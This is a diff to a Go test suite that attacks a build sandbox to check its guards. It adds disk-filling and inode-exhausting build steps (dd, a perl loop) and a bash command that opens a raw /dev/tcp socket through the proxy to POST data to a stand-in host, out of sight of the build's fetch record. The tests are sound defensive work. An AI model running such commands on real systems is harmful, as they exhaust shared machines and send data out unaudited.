@@ -7,6 +7,7 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"time"
 
@@ -24,7 +25,7 @@ func (s *scene) build(p *harness.Platform, image string, lines ...string) (strin
 }
 
 // exhaust runs a bomb. Its steps say boom where they got through; else the build
-// ends with the words of want, and the platform is as well as before.
+// ends with a word of want ("one|other"), and the platform is as well as before.
 func (s *scene) exhaust(boom, want string, lines ...string) (through, stopped string) {
 	s.Helper()
 	p := s.platform("small")
@@ -37,7 +38,7 @@ func (s *scene) exhaust(boom, want string, lines ...string) (through, stopped st
 		return fmt.Sprintf("the platform does not answer any more: %v", herr), ""
 	}
 	resp.Body.Close()
-	if err == nil || !strings.Contains(err.Error(), want) {
+	if err == nil || !slices.ContainsFunc(strings.Split(want, "|"), func(w string) bool { return strings.Contains(err.Error(), w) }) {
 		s.Errorf("the build ended with %v, want %q\n%s", err, want, said)
 	}
 	if _, err := s.build(p, "calm-"+strings.ToLower(rand.Text())); err != nil {
@@ -59,6 +60,25 @@ var _ = register(attack{
 })
 
 var _ = register(attack{
+	name: "disk-bomb", tries: "fill the disk of the machine",
+	guard: "a room's file system has a size: build/sandbox newDisk",
+	cuts: []cut{{"build/sandbox/disk.go", `	size = size / 4096 * 4096
+`, `	size = 8 << 30
+`}},
+	beside: func(s *scene) (string, string) {
+		return s.exhaust("wrote 800 MiB", "disk full|exit code: 1", `RUN dd if=/dev/zero of=/big bs=1M count=800 status=none && echo wrote 800 MiB`)
+	},
+})
+
+var _ = register(attack{
+	name: "file-bomb", tries: "use up the files that a disk can have",
+	guard: "a room's file system is its own: build/sandbox newDisk",
+	beside: func(s *scene) (string, string) {
+		return s.exhaust("made 200000 files", "disk full|exit code: 1", `RUN perl -e 'mkdir "/n"; for (1..200000) { open(F, ">", "/n/$_") or exit 1; close F } print "made 200000 files\n"'`)
+	},
+})
+
+var _ = register(attack{
 	name: "fork-bomb", tries: "take all processes of the machine",
 	guard: "a room's cgroup: build/sandbox newCgroup",
 	cuts: []cut{{cgroupFile, `res.Pids.Limit = &l.PIDs`, `_ = l.PIDs`},
@@ -73,7 +93,7 @@ var _ = register(attack{
 	guard: "the wall clock ends it: build/buildkit Build",
 	cuts:  []cut{{"build/buildkit/buildkit.go", `wall := lower(req.Limits.WallTime, b.cfg.WallTime)`, `wall := time.Hour`}},
 	beside: func(s *scene) (string, string) {
-		return s.exhaust("still here", "took longer than the limit of 12s", `RUN trap "" TERM INT HUP; sleep 16; echo still here`)
+		return s.exhaust("still here", "took longer than the limit of 15s", `RUN trap "" TERM INT HUP; sleep 20; echo still here`)
 	},
 })
 
@@ -325,5 +345,29 @@ var _ = register(attack{
 			stopped = append(stopped, err.Error())
 		}
 		return "", brief(stopped)
+	},
+})
+
+// post is a shell command that sends a POST through the room's proxy, which
+// BuildKit's own record does not have.
+const post = `bash -c 'p=${HTTP_PROXY#http://}; p=${p%/}; exec 3<>/dev/tcp/${p%:*}/${p##*:}; printf "POST http://world.test/ HTTP/1.1\r\nHost: world.test\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi" >&3; cat <&3; echo; echo posted'`
+
+var _ = register(attack{
+	name: "unlisted-fetch", tries: "fetch something that BuildKit's record leaves out",
+	guard: "the gateway's record counts, and a build that tells less is refused: release/network Agree",
+	cuts:  []cut{{"release/dependencies.go", `if err := rec.Agree(claims, images); err != nil {`, `if err := error(nil); err != nil {`}, {"release/dependencies.go", `claims := network.Claims{`, `_ = network.Claims{`}},
+	beside: func(s *scene) (string, string) {
+		p := s.platform("step")
+		said, err := s.build(p, "unlisted-"+strings.ToLower(rand.Text()), "RUN "+post)
+		if !strings.Contains(said, "posted") || !strings.Contains(said, "the world") {
+			s.Fatalf("the step fetched nothing: %v\n%s", err, said)
+		}
+		if err == nil {
+			return "the image was signed, and nothing says what its build fetched", ""
+		}
+		if !strings.Contains(err.Error(), "disagree") {
+			s.Errorf("stopped by something else: %v", err)
+		}
+		return "", err.Error()
 	},
 })
